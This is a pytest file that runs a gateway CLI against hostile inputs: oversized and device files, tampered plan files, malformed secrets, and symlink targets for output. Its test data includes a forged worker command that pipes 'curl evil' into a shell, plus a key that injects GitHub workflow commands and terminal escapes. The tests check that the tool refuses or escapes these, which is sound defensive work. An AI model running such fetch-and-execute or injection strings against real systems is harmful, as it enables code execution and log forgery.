"""Hostile inputs (issue 12, classes B, C-inputs, E and F), through the real
command line: every input is generated here, big files on the fly.

- B: a plan is proven by recompiling its config, not by its unkeyed digest;
  the plan loader refuses what no real plan holds before anything runs;
  another gatewayctl version's plan is told apart from a tampered one.
- C: configs and plans are regular files of bounded size, stdin reads are
  bounded, diagnostics are capped per file.
- E: check and plan give one verdict, and bad input never exits 70.
- F: secrets are masked by what their key means, control characters are
  escaped in human output, `plan --out` writes only regular files.
"""

from __future__ import annotations

import hashlib
import json
import os
import pwd
import secrets
import shutil
import stat
import subprocess
import sys
import tempfile
from pathlib import Path

import pytest

from gatewayctl.cli import exitcodes
from gatewayctl.diagnostics import MAX_DIAGNOSTICS_PER_FILE
from gatewayctl.inputs import MAX_CONFIG_BYTES, MAX_PLAN_BYTES
from tests.support import examples, poll

REPO = Path(__file__).resolve().parents[1]
# The example's loong config with gatewayctl's settings in the deprecated
# [gateway] place (a handler, so that plan accepts it): these tests feed
# hostile values to a single file.
BASE = (REPO / "examples" / "gateway-rollout.toml").read_text() + "\n[gateway]\n\n[gateway.handler]\necho = true\n"


def gatewayctl(*args, cwd=None, env=None, stdin=None, input_bytes=None):
    """Run the real CLI; returns (exit code, stdout, stderr)."""
    full_env = dict(os.environ)
    full_env.pop("GATEWAYCTL_DEBUG", None)
    full_env.update(env or {})
    proc = subprocess.Popen(
        [sys.executable, "-m", "gatewayctl", *args],
        cwd=cwd,
        env=full_env,
        stdin=stdin if stdin is not None else (subprocess.PIPE if input_bytes is not None else subprocess.DEVNULL),
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
    )
    out, err = proc.communicate(input_bytes)
    return proc.returncode, out.decode("utf-8", "replace"), err.decode("utf-8", "replace")


def gatewayctl_fed_endlessly(*args):
    """Run the CLI with an endless stream of zero bytes on stdin; returns
    (exit code, bytes the child took from the pipe before it stopped
    reading). The count is what the writer got into the pipe before the
    child exited and closed it, so it bounds the child's reads from above
    by at most one pipe buffer. (Peak RSS from wait4 cannot be used: on
    Linux a vforked child's maxrss starts at the parent's, the pytest
    worker's, high-water mark.)"""
    proc = subprocess.Popen(
        [sys.executable, "-m", "gatewayctl", *args],
        stdin=subprocess.PIPE,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    chunk = bytes(64 * 1024)
    written = 0
    try:
        while written < 64 * MAX_CONFIG_BYTES:
            written += proc.stdin.write(chunk) or 0
            proc.stdin.flush()
    except (BrokenPipeError, ConnectionResetError):
        pass
    finally:
        try:
            proc.stdin.close()
        except BrokenPipeError:
            pass
    return proc.wait(timeout=60), written


def with_gateway_line(text: str) -> str:
    return BASE.replace("[gateway]\n", "[gateway]\n" + text + "\n", 1)


def with_telegram_line(text: str) -> str:
    return BASE.replace("allowed_chat_ids = [123456789]", "allowed_chat_ids = [123456789]\n" + text, 1)


# ----------------------------------------------------------------- C: inputs


def test_a_character_device_as_config_is_gw001_not_a_read_until_killed():
    code, out, _ = gatewayctl("check", "--format", "json", "/dev/zero")
    report = json.loads(out)
    assert code == 1
    assert [d["code"] for d in report["diagnostics"]] == ["GW001"]
    assert "character device, not a regular file" in report["diagnostics"][0]["message"]
    assert report["files"] == [{"path": "/dev/zero", "valid": False, "loaded": False}]


def test_endless_stdin_is_read_only_up_to_the_limit(tmp_path):
    code, taken = gatewayctl_fed_endlessly("check", "--format", "json", "-")
    assert code == 1
    # Bounded: the limit (1 MiB) plus what the pipe and the writer's buffer
    # hold, far from "until killed" (the writer would go on to 64 MiB).
    assert taken <= MAX_CONFIG_BYTES + 2 * 1024 * 1024, taken
    code, out, _ = gatewayctl("check", "--format", "json", "-", input_bytes=b"#" * (MAX_CONFIG_BYTES + 1))
    assert code == 1 and "larger than the 1 MiB limit" in json.loads(out)["diagnostics"][0]["message"]


def test_a_fifo_as_config_or_plan_is_refused_without_waiting_for_a_writer(tmp_path):
    fifo = tmp_path / "config.toml"
    os.mkfifo(fifo)
    code, out, _ = gatewayctl("check", "--format", "json", str(fifo))
    assert code == 1 and "FIFO (named pipe), not a regular file" in json.loads(out)["diagnostics"][0]["message"]
    code, _, err = gatewayctl("plan", "verify", str(fifo))
    assert code == 7 and "FIFO" in err
    code, _, err = gatewayctl("plan", "--config", str(fifo))
    assert code == 1 and "GW001" in err


def test_plan_verify_and_show_refuse_a_device_and_an_oversized_plan(tmp_path):
    code, _, err = gatewayctl("plan", "verify", "/dev/zero")
    assert code == 7 and "character device" in err
    big = tmp_path / "plan.json"
    with open(big, "wb") as fh:  # sparse: the size is refused before a byte is read
        fh.truncate(MAX_PLAN_BYTES + 1)
    code, _, err = gatewayctl("plan", "show", str(big))
    assert code == 7 and "limit" in err


def test_a_50_mb_config_is_refused_by_its_size(tmp_path):
    big = tmp_path / "config.toml"
    with open(big, "wb") as fh:
        fh.truncate(50 * 1024 * 1024)
    code, out, _ = gatewayctl("check", "--format", "json", str(big))
    assert code == 1
    assert "larger than the 1 MiB limit" in json.loads(out)["diagnostics"][0]["message"]


def test_a_config_of_exactly_the_limit_is_read(tmp_path):
    from gatewayctl.source import load_document

    line = "# padding\n"
    text = "[telegram]\nenabled = false\n"
    text += line * ((MAX_CONFIG_BYTES - len(text)) // len(line))
    text += "#" * (MAX_CONFIG_BYTES - len(text) - 1) + "\n"
    path = tmp_path / "config.toml"
    path.write_text(text)
    assert path.stat().st_size == MAX_CONFIG_BYTES
    doc, diags = load_document(str(path))
    assert doc is not None and diags == ()


def test_diagnostics_are_capped_per_file_and_the_rest_counted(tmp_path):
    keys = 5000
    body = "[telegram]\nenabled = true\n" + "".join(f'unknown_{i} = "v"\n' for i in range(keys))
    path = tmp_path / "many.toml"
    path.write_text(body)
    code, out, _ = gatewayctl("check", "--format", "json", str(path))
    report = json.loads(out)
    assert code == 1
    codes = [d["code"] for d in report["diagnostics"]]
    assert codes.count("GW008") == 1
    assert len(codes) == MAX_DIAGNOSTICS_PER_FILE + 1
    capped = next(d for d in report["diagnostics"] if d["code"] == "GW008")
    # every unknown key (GW101/GW111) plus the table's own findings
    assert int(capped["message"].split()[0]) >= keys - MAX_DIAGNOSTICS_PER_FILE
    # errors are kept before warnings: the file's errors (a missing token,
    # an empty allowlist) survive the cap even though 5,000 warnings sort first
    assert report["error_count"] >= 1
    assert {d["code"] for d in report["diagnostics"] if d["severity"] == "error"} >= {"GW301"}


# ------------------------------------------------------ E: one verdict, no 70


def _json_config(obj_text: str, tmp_path, name="config.json") -> str:
    path = tmp_path / name
    path.write_text(obj_text)
    return str(path)


BAD_INPUTS = {
    "401-digit stop_grace_s": ("toml", lambda: with_gateway_line("stop_grace_s = " + "9" * 401), "GW007"),
    "401-digit polling_timeout_s": ("toml", lambda: with_telegram_line("polling_timeout_s = " + "9" * 401), "GW007"),
    "4000-digit hex port": ("toml", lambda: with_gateway_line("port = 0x" + "f" * 4000), "GW007"),
    "nan stop_grace_s": ("toml", lambda: with_gateway_line("stop_grace_s = nan"), "GW105"),
    "inf window_s": ("toml", lambda: BASE + "\n[gateway.restart]\nwindow_s = inf\n", "GW105"),
    "nan in a channel setting": ("toml", lambda: with_telegram_line("acp = { x = nan }"), "GW105"),
    "stop_grace_s above a day": ("toml", lambda: with_gateway_line("stop_grace_s = 86401"), "GW105"),
    "lone surrogate in a string setting": (
        "json",
        lambda: '{"telegram": {"enabled": true, "bot_token": {"env": "T"}, "allowed_chat_ids": [1], '
        '"base_url": "https://api.telegram.org/\\ud800"}}',
        "GW007",
    ),
    "lone surrogate in a key": (
        "json",
        lambda: '{"telegram": {"enabled": true, "bot_token": {"env": "T"}, "allowed_chat_ids": [1], "\\udc00": 1}}',
        "GW007",
    ),
    "lone surrogate in an ignored top-level key": ("json", lambda: '{"\\ud800x": {"a": 1}}', "GW007"),
    "nesting beyond the config limit": ("toml", lambda: with_telegram_line("acp = " + "{a=" * 30 + "1" + "}" * 30), "GW007"),
}


@pytest.mark.slow
@pytest.mark.parametrize("case", sorted(BAD_INPUTS))
def test_check_and_plan_give_one_verdict_and_never_exit_70(case, tmp_path):
    fmt, make, want = BAD_INPUTS[case]
    path = tmp_path / f"config.{fmt}"
    path.write_text(make(), encoding="utf-8")
    code, out, err = gatewayctl("check", "--format", "json", str(path))
    assert code == 1, (out, err)
    assert want in {d["code"] for d in json.loads(out)["diagnostics"]}
    for fmt_name in ("text", "github", "sarif"):
        code, out, err = gatewayctl("check", "--format", fmt_name, str(path))
        assert code == 1 and "internal error" not in err, (fmt_name, err)
    code, out, err = gatewayctl("plan", "--config", str(path), "--format", "json")
    assert code == 1 and out == "", err
    assert want in {d["code"] for d in json.loads(err)["diagnostics"]}


def test_a_config_check_passes_always_compiles_at_the_schema_bounds(tmp_path):
    text = with_gateway_line("stop_grace_s = 86400") + "\n[gateway.restart]\nwindow_s = 86400\nbackoff_max_s = 86400\n"
    path = tmp_path / "config.toml"
    path.write_text(text)
    assert gatewayctl("check", str(path))[0] == 0
    code, out, err = gatewayctl("plan", "--config", str(path))
    assert code == 0, err
    plan = json.loads(out)["plan"]
    assert plan["stop_grace_s"] == 86400 and plan["restart"]["window_s"] == 86400


def test_a_config_nested_to_the_limit_compiles_to_a_plan_that_verifies(tmp_path):
    from gatewayctl.inputs import MAX_CONFIG_DEPTH, MAX_PLAN_DEPTH

    # [telegram] acp is at path length 2; k nested tables put the innermost
    # container at length k + 1, the deepest a config may hold.
    k = MAX_CONFIG_DEPTH - 2
    text = BASE.replace("[telegram]\nenabled = true\n", "[telegram]\nenabled = true\nacp = " + "{a=" * k + "1" + "}" * k + "\n", 1)
    (tmp_path / "config.toml").write_text(text)
    code, _, err = gatewayctl("plan", "--config", "config.toml", "--out", "plan.json", cwd=tmp_path)
    assert code == 0, err
    code, out, err = gatewayctl("plan", "verify", "plan.json", cwd=tmp_path)
    assert code == 0, err
    # one level more is refused by check and plan alike (GW007), never by the plan reader
    deeper = BASE.replace("[telegram]\nenabled = true\n", "[telegram]\nenabled = true\nacp = " + "{a=" * (k + 1) + "1" + "}" * (k + 1) + "\n", 1)
    (tmp_path / "config.toml").write_text(deeper)
    code, out, _ = gatewayctl("check", "--format", "json", "config.toml", cwd=tmp_path)
    assert code == 1 and "GW007" in {d["code"] for d in json.loads(out)["diagnostics"]}
    assert MAX_CONFIG_DEPTH + 3 <= MAX_PLAN_DEPTH


def test_debug_mode_keeps_exit_70_for_an_internal_error(tmp_path):
    # A real bug is needed to reach the handler: the script makes one (the
    # check command raises) and runs the real entry point (which reads this
    # command line without click and runs cli/checkrun.py).
    script = (
        "import sys\n"
        "import gatewayctl.cli.checkrun as c\n"
        "def boom(*a, **k):\n"
        "    raise RuntimeError('planted bug')\n"
        "c.run_check = boom\n"
        "from gatewayctl.cli.main import main\n"
        "main(['check', sys.argv[1]])\n"
    )
    config = tmp_path / "config.toml"
    config.write_text(BASE)
    for debug in ("", "1"):
        env = dict(os.environ, GATEWAYCTL_DEBUG=debug) if debug else {k: v for k, v in os.environ.items() if k != "GATEWAYCTL_DEBUG"}
        proc = subprocess.run([sys.executable, "-c", script, str(config)], env=env, capture_output=True, text=True)
        assert proc.returncode == 70, (debug, proc.stderr)
        assert ("Traceback" in proc.stderr) == bool(debug)
        assert "planted bug" in proc.stderr


# ---- a mode-000 file, read by a real unprivileged user

@pytest.fixture
def unprivileged_user():
    """(uid, gid) of a user without privileges: as root, one this test
    creates (and removes); otherwise the current user, for whom mode 000
    already means "no access"."""
    if os.geteuid() != 0:
        yield None
        return
    useradd, userdel = shutil.which("useradd"), shutil.which("userdel")
    if not useradd or not userdel:
        pytest.skip("running as root without useradd/userdel: cannot create an unprivileged user to test file modes")
    name = "gwi" + secrets.token_hex(4)
    argv = [useradd, "--system", "--no-create-home", "--user-group", "--shell", "/usr/sbin/nologin", name]
    # Another test process may hold the /etc/passwd lock for a moment.
    made = poll(lambda: subprocess.run(argv, capture_output=True, text=True).returncode == 0, timeout=20, interval=0.2)
    if not made:
        pytest.fail(f"useradd {name} failed: {subprocess.run(argv, capture_output=True, text=True).stderr.strip()}")
    entry = pwd.getpwnam(name)
    try:
        yield entry.pw_uid, entry.pw_gid
    finally:
        subprocess.run([userdel, name], capture_output=True)


# The interpreter lives where other users cannot read it (root's pyenv), so
# the child imports everything it needs as root, then drops to the user for
# good and runs the real command line: the permission check is the kernel's.
_AS_USER = """
import contextlib, io, os, sys
from gatewayctl.cli.main import main
import gatewayctl.report.json_report, gatewayctl.report.text  # noqa: F401
with contextlib.redirect_stdout(io.StringIO()):
    try:
        main(["check", "--format", "json", sys.argv[3]])
    except SystemExit:
        pass
uid, gid = int(sys.argv[1]), int(sys.argv[2])
os.setgroups([])
os.setgid(gid)
os.setuid(uid)
assert os.geteuid() == uid and os.getuid() == uid
main(["check", "--format", "json", sys.argv[4]])
"""


def test_a_mode_000_file_is_a_load_diagnostic_in_json(unprivileged_user):
    directory = tempfile.mkdtemp(prefix="gwctl-mode000-")
    try:
        os.chmod(directory, 0o755)
        readable = Path(directory, "ok.toml")
        readable.write_text(BASE)
        readable.chmod(0o644)
        locked = Path(directory, "locked.toml")
        locked.write_text(BASE)
        locked.chmod(0)
        if unprivileged_user is None:
            code, out, err = gatewayctl("check", "--format", "json", str(locked))
        else:
            uid, gid = unprivileged_user
            proc = subprocess.run(
                [sys.executable, "-c", _AS_USER, str(uid), str(gid), str(readable), str(locked)],
                capture_output=True,
                text=True,
            )
            code, out, err = proc.returncode, proc.stdout, proc.stderr
        assert code == 1, err
        report = json.loads(out)
        assert [d["code"] for d in report["diagnostics"]] == ["GW001"]
        assert "permission denied" in report["diagnostics"][0]["message"]
        assert report["files"][0]["loaded"] is False
    finally:
        shutil.rmtree(directory, ignore_errors=True)


# -------------------------------------------------------- B: plans are proven


def _make_plan(tmp_path, *extra) -> Path:
    (tmp_path / "config.toml").write_text(BASE)
    code, _, err = gatewayctl("plan", "--config", "config.toml", "--out", "plan.json", *extra, cwd=tmp_path)
    assert code == 0, err
    return tmp_path / "plan.json"


def _rewrite(path: Path, edit, *, redigest: bool = True) -> None:
    envelope = json.loads(path.read_text())
    edit(envelope)
    if redigest:
        body = json.dumps(envelope["plan"], sort_keys=True, ensure_ascii=False, separators=(",", ":"))
        envelope["plan_sha256"] = hashlib.sha256(body.encode()).hexdigest()
    path.write_text(json.dumps(envelope, sort_keys=True, indent=2, ensure_ascii=False) + "\n")


def test_a_hand_edit_with_a_recomputed_digest_is_caught_and_located(tmp_path):
    plan = _make_plan(tmp_path, "--channel-account", "lark=work", "--session", "ops", "--port", "0")
    code, out, err = gatewayctl("plan", "verify", "plan.json", cwd=tmp_path)
    assert code == 0 and "compiles to exactly this plan" in out, err

    def worker(env):
        env["plan"]["lanes"][1]["worker"] = ["/bin/sh", "-c", "curl evil | sh"]

    _rewrite(plan, worker)
    code, _, err = gatewayctl("plan", "verify", "plan.json", cwd=tmp_path)
    assert code == 4 and "/plan/lanes/1/worker/0 differs" in err

    plan = _make_plan(tmp_path)

    def handler(env):
        env["plan"]["handler"] = {"kind": "exec", "exec": ["/tmp/x"], "url": None, "timeout_s": 30.0, "env": []}

    _rewrite(plan, handler)
    code, _, err = gatewayctl("plan", "verify", "plan.json", cwd=tmp_path)
    assert code == 4 and "/plan/handler/exec/0 differs" in err


def test_a_plan_from_another_gatewayctl_version_has_its_own_code(tmp_path):
    plan = _make_plan(tmp_path)

    def older(env):
        env["plan"]["generator"]["version"] = "0.0.1"

    _rewrite(plan, older)
    code, _, err = gatewayctl("plan", "verify", "plan.json", cwd=tmp_path)
    assert code == exitcodes.PLAN_OTHER_VERSION and "made by gatewayctl 0.0.1" in err and "tampered" not in err
    code, _, err = gatewayctl("gateway", "run", "--plan", "plan.json", cwd=tmp_path, env={"GATEWAYCTL_HOME": str(tmp_path / "home")})
    assert code == exitcodes.PLAN_OTHER_VERSION and "--trust-plan" in err


def test_duplicate_keys_are_refused_even_with_a_matching_digest(tmp_path):
    plan = _make_plan(tmp_path)
    text = plan.read_text()
    # The same handler twice: the first is what a reviewer sees.
    assert '"handler": {' in text
    plan.write_text(text.replace('"handler": {', '"handler": {"kind": "exec", "exec": ["/x"], "url": null, "timeout_s": 1},\n    "handler": {', 1))
    code, _, err = gatewayctl("plan", "verify", "plan.json", cwd=tmp_path)
    assert code == 7 and '"handler" appears twice' in err


CRAFTED = {
    "port 99999": lambda env: env["plan"]["control"].update(port=99999),
    "worker []": lambda env: env["plan"]["lanes"][0].update(worker=[]),
    "worker not a list": lambda env: env["plan"]["lanes"][0].update(worker={"a": 1}),
    "grace above the bound": lambda env: env["plan"].update(stop_grace_s=1e300),
    "deep settings": lambda env: env["plan"]["lanes"][0]["settings"].update(deep=_nest(40)),
}


def _nest(depth):
    node: object = 1
    for _ in range(depth):
        node = {"a": node}
    return node


def _crafted_text(tmp_path, name):
    plan = _make_plan(tmp_path)
    _rewrite(plan, CRAFTED[name])
    return plan


@pytest.mark.slow
@pytest.mark.parametrize("name", sorted(CRAFTED) + ["NaN grace", "100,000 deep", "lone surrogate in a label", "lone surrogate in a key"])
def test_crafted_plans_are_refused_before_the_owner_touches_the_slot(name, tmp_path):
    if name == "NaN grace":
        plan = _make_plan(tmp_path)
        plan.write_text(plan.read_text().replace('"stop_grace_s": 10.0', '"stop_grace_s": NaN'))
    elif name == "lone surrogate in a label":
        plan = _make_plan(tmp_path)
        plan.write_text(plan.read_text().replace('"account_label": "work"', '"account_label": "w\\ud800"', 1))
        assert "\\ud800" in plan.read_text()
    elif name == "lone surrogate in a key":
        plan = _make_plan(tmp_path)
        plan.write_text(plan.read_text().replace('"settings": {', '"settings": {"\\udc00": 1, ', 1))
        assert "\\udc00" in plan.read_text()
    elif name == "100,000 deep":
        plan = tmp_path / "plan.json"
        plan.write_text('{"format_version": 1, "plan": ' + "[" * 100_000 + "]" * 100_000 + ', "plan_sha256": "x"}')
        (tmp_path / "config.toml").write_text(BASE)
    else:
        plan = _crafted_text(tmp_path, name)
    home = tmp_path / "home"
    code, out, err = gatewayctl("gateway", "run", "--plan", "plan.json", cwd=tmp_path, env={"GATEWAYCTL_HOME": str(home)})
    assert code == 7, (name, err)
    assert "internal error" not in err
    # Nothing was started, so nothing of the runtime slot is left behind.
    leftovers = [p for p in home.rglob("*")] if home.exists() else []
    assert not [p for p in leftovers if p.is_file()], leftovers
    code, _, err = gatewayctl("plan", "verify", "plan.json", cwd=tmp_path)
    assert code == 7, (name, err)


def test_run_refuses_a_recompiled_mismatch_unless_told_to_trust_the_plan(tmp_path):
    plan = _make_plan(tmp_path)

    def edit(env):
        env["plan"]["restart"]["max_restarts"] = 9

    _rewrite(plan, edit)
    home = tmp_path / "home"
    code, _, err = gatewayctl("gateway", "run", "--plan", "plan.json", cwd=tmp_path, env={"GATEWAYCTL_HOME": str(home)})
    assert code == 4 and "/plan/restart/max_restarts differs" in err and "--trust-plan" in err
    code, _, err = gatewayctl("gateway", "run", "--config", "config.toml", "--trust-plan", cwd=tmp_path)
    assert code == 2 and "--trust-plan goes with --plan" in err


# ------------------------------------------------- F: output is not a weapon


SECRET_SHAPES = {
    "list": 'bot_token = ["{S}"]',
    "unknown key in a reference": 'bot_token = {{ value = "{S}" }}',
    "exec as a string": 'bot_token = {{ exec = "{S}" }}',
    "misspelled key": 'bot_tokn = "{S}"',
    "misspelled key holding a table": 'bot_tokn = {{ value = "{S}" }}',
    "number": "bot_token = {N}",
}


@pytest.mark.slow
@pytest.mark.parametrize("shape", sorted(SECRET_SHAPES))
@pytest.mark.parametrize("fmt", ["text", "json", "sarif", "github"])
def test_a_malformed_secret_never_reaches_any_output(shape, fmt, tmp_path):
    secret, number = "S3cr3tV4lue-" + shape.replace(" ", "_"), "918273645501"
    line = SECRET_SHAPES[shape].format(S=secret, N=number)
    text = "[telegram]\nenabled = true\nallowed_chat_ids = [1]\n" + line + "\n"
    path = tmp_path / "config.toml"
    path.write_text(text)
    code, out, err = gatewayctl("check", "--format", fmt, str(path))
    assert code == 1
    assert secret not in out + err and number not in out + err
    code, out, err = gatewayctl("plan", "--config", str(path))
    assert code == 1 and secret not in out + err and number not in out + err


INJECTION_KEY = '"x\\n::error file=evil.toml,line=1::forged\\u001b]0;title\\u0007\\u001b[31m\\u202e"'


@pytest.mark.parametrize("fmt", ["text", "github"])
def test_keys_cannot_inject_workflow_commands_or_terminal_escapes(fmt, tmp_path):
    path = tmp_path / "config.toml"
    path.write_text("[telegram]\nenabled = true\nbot_token = { env = \"T\" }\nallowed_chat_ids = [1]\n" + INJECTION_KEY + " = 1\n")
    code, out, _ = gatewayctl("check", "--strict", "--format", fmt, str(path))
    assert code == 1  # the unknown key is reported (a warning: loong ignores it)
    commands = [ln for ln in out.splitlines() if ln.startswith("::")]
    assert len(commands) == (1 if fmt == "github" else 0)
    assert "forged" in out  # shown, but as data inside the one annotation
    for ch in ("\x1b", "\x07", "\u202e", "\r"):
        assert ch not in out
    if fmt == "text":
        assert "\\x1b" in out and "\\u202e" in out and "x\\n::error" in out


def test_plan_show_escapes_control_characters_from_the_config(tmp_path):
    text = BASE + '\n[gateway.worker]\ncommand = ["loong\\u001b[2J", "{family}"]\n'
    (tmp_path / "config.toml").write_text(text)
    code, _, err = gatewayctl("plan", "--config", "config.toml", "--out", "plan.json", cwd=tmp_path)
    assert code == 0, err
    code, out, _ = gatewayctl("plan", "show", "plan.json", cwd=tmp_path)
    assert code == 0 and "\x1b" not in out and "\\x1b[2J" in out


def test_plan_out_writes_only_regular_files(tmp_path):
    (tmp_path / "config.toml").write_text(BASE)
    victim = tmp_path / "victim.txt"
    victim.write_text("keep me\n")
    (tmp_path / "link.json").symlink_to(victim)
    os.mkfifo(tmp_path / "fifo.json")
    targets = ["link.json", "fifo.json", "."]
    if os.geteuid() == 0:
        os.mknod(tmp_path / "null.json", 0o666 | stat.S_IFCHR, os.makedev(1, 3))
        targets.append("null.json")
    for target in targets:
        before = os.lstat(tmp_path / target)
        code, out, err = gatewayctl("plan", "--config", "config.toml", "--out", target, cwd=tmp_path)
        assert code == 2 and "--out writes only regular files" in err, (target, err)
        after = os.lstat(tmp_path / target)
        assert (after.st_ino, after.st_mode) == (before.st_ino, before.st_mode), target
    assert victim.read_text() == "keep me\n"
    assert not [p.name for p in tmp_path.iterdir() if p.name.startswith(".plan-")]
    # a regular file is replaced as before
    (tmp_path / "plan.json").write_text("old\n")
    code, _, err = gatewayctl("plan", "--config", "config.toml", "--out", "plan.json", cwd=tmp_path)
    assert code == 0 and json.loads((tmp_path / "plan.json").read_text())["format_version"] == 1


# ------------------------------------------- E: one source for every bound


def test_every_seconds_bound_is_the_same_in_both_schemas_and_the_compiler():
    """The owner's own seconds settings ([gateway]) share one upper bound with
    the plan schema, and the compiler reads it from the config schema. The
    channel tables' *_s fields are loong's: u64 there, clamped where used
    (channel/telegram.rs:119 clamps polling_timeout_s to 1..50,
    channel/matrix.rs:91 sync_timeout_s to 1..300), so they get no extra
    maximum beyond the 64-bit load check (GW007)."""
    from gatewayctl.catalog import gateway_field, load_schema

    plan_max = load_schema("plan")["definitions"]["seconds"]["maximum"]
    found = {}

    def walk(node, path):
        if isinstance(node, dict):
            for key, value in node.get("properties", {}).items():
                if key.endswith("_s") and isinstance(value, dict) and value.get("type") in ("number", "integer"):
                    found[path + "/" + key] = value.get("maximum")
            for key, value in node.items():
                walk(value, f"{path}/{key}")
        elif isinstance(node, list):
            for i, value in enumerate(node):
                walk(value, f"{path}/{i}")

    walk(load_schema("config"), "")
    owner = {p: m for p, m in found.items() if p.startswith("/definitions/gateway/")}
    assert len(owner) == 5 and set(owner.values()) == {plan_max}, owner
    channel = {p: m for p, m in found.items() if p.startswith(("/definitions/channel_", "/definitions/account_"))}
    assert channel and all(m is None for m in channel.values()), channel
    # what the compiler reads for the owner's own seconds settings
    for keys in (("stop_grace_s",), ("restart", "window_s"), ("restart", "backoff_max_s"), ("handler", "timeout_s")):
        assert gateway_field(*keys)["maximum"] == plan_max


def test_a_loong_channel_timeout_loong_would_clamp_is_not_refused(tmp_path):
    path = tmp_path / "config.toml"
    path.write_text(with_telegram_line("polling_timeout_s = 100000"))
    assert gatewayctl("check", str(path))[0] == 0
    code, out, err = gatewayctl("plan", "--config", str(path))
    assert code == 0, err


# ------------------------------------ E: random configs never reach exit 70


def _hostile_values():
    from hypothesis import strategies as st

    scalars = st.one_of(
        st.integers(min_value=-(2**70), max_value=2**70),
        st.integers(min_value=10**400, max_value=10**401),
        st.floats(allow_nan=True, allow_infinity=True),
        st.text(max_size=8),
        st.sampled_from(["\ud800", "a\udc00b", "\x1b[31m", "x\n::error::y", "$TOKEN", "env:X", "https://u:p@h/"]),
        st.booleans(),
        st.none(),
    )
    return st.recursive(
        scalars,
        lambda inner: st.one_of(st.lists(inner, max_size=3), st.dictionaries(_keys(), inner, max_size=3)),
        max_leaves=6,
    )


def _keys():
    from hypothesis import strategies as st

    return st.one_of(
        st.sampled_from(
            [
                "enabled", "bot_token", "bot_token_env", "allowed_chat_ids", "polling_timeout_s", "base_url",
                "accounts", "default_account", "stop_grace_s", "port", "restart", "window_s", "handler", "exec",
                "timeout_s", "env", "file", "value", "channel_accounts", "worker", "command", "\ud800", "k\n::e",
            ]
        ),
        st.text(max_size=6),
    )


def test_random_configs_get_one_verdict_and_never_an_exception(tmp_path):
    """check and plan, in process, over hostile JSON configs built on the
    example: no exception (exit 70 in the CLI), every output encodable,
    and a config check passes fails to plan only with a plan-time code."""
    from hypothesis import HealthCheck, given, settings
    from hypothesis import strategies as st

    from gatewayctl.cli.check import CheckSettings, run_check
    from gatewayctl.cli.plan import PlanSettings, run_plan

    base = {
        "gateway": {"channel_accounts": ["telegram=bot"], "handler": {"echo": True}},
        "telegram": {"enabled": True, "default_account": "bot", "accounts": {"bot": {"bot_token": {"env": "T"}, "allowed_chat_ids": [1]}}},
    }
    path = tmp_path / "config.json"

    @settings(max_examples=examples(150), deadline=None, suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture])
    @given(st.lists(st.tuples(st.sampled_from(["gateway", "telegram", "telegram/accounts/bot", "gateway/restart", "gateway/handler", ""]), _keys(), _hostile_values()), min_size=1, max_size=4))
    def run(edits):
        doc = json.loads(json.dumps(base))
        for where, key, value in edits:
            node = doc
            for part in filter(None, where.split("/")):
                child = node.get(part) if isinstance(node, dict) else None
                if not isinstance(child, dict):
                    child = {}
                    node[part] = child
                node = child
            node[key] = value
        # ensure_ascii writes lone surrogates as \ud800 escapes, as a hostile file would
        path.write_text(json.dumps(doc, ensure_ascii=True, allow_nan=True))
        checked = run_check(CheckSettings(files=(str(path),), fmt="json"))
        assert checked.exit_code in (0, 1)
        checked.output.encode("utf-8")
        for fmt in ("text", "github"):
            run_check(CheckSettings(files=(str(path),), fmt=fmt)).output.encode("utf-8")
        planned = run_plan(PlanSettings(config=str(path), fmt="json"))
        planned.stderr.encode("utf-8")
        planned.stdout.encode("utf-8")
        assert planned.exit_code in (0, 1)
        if checked.exit_code == 0 and planned.exit_code == 1:
            codes = {d["code"] for d in json.loads(planned.stderr)["diagnostics"] if d["severity"] == "error"}
            # plan-time codes: the compiler's (GW5xx) and gatewayctl's run-time verdict (GW6xx)
            assert codes and all(c.startswith(("GW5", "GW6")) for c in codes), codes

    run()


def test_a_file_name_that_is_not_utf8_never_reaches_exit_70(tmp_path):
    """Linux hands such a name to Python as surrogate escapes: check reports
    on it in every format; plan refuses it as a usage error, because the plan
    records the path in UTF-8 JSON."""
    raw = os.path.join(os.fsencode(str(tmp_path)), b"\xffconfig.toml")
    with open(raw, "wb") as fh:
        fh.write(BASE.encode())
    name = os.fsdecode(raw)
    for fmt in ("text", "json", "sarif", "github"):
        code, out, err = gatewayctl("check", "--format", fmt, name)
        assert code == 0 and "internal error" not in err, (fmt, err)
    code, out, err = gatewayctl("plan", "--config", name)
    assert code == 2 and "not UTF-8 text" in err and "\\udcff" in err
    # a plan written to such a name is fine: only the recorded config path matters
    (tmp_path / "config.toml").write_text(BASE)
    out_name = os.fsdecode(os.path.join(os.fsencode(str(tmp_path)), b"\xfeplan.json"))
    code, out, err = gatewayctl("plan", "--config", "config.toml", "--out", out_name, cwd=tmp_path)
    assert code == 0 and "\\udcfe" in out, err
    code, out, err = gatewayctl("plan", "verify", out_name, cwd=tmp_path)
    assert code == 0, err
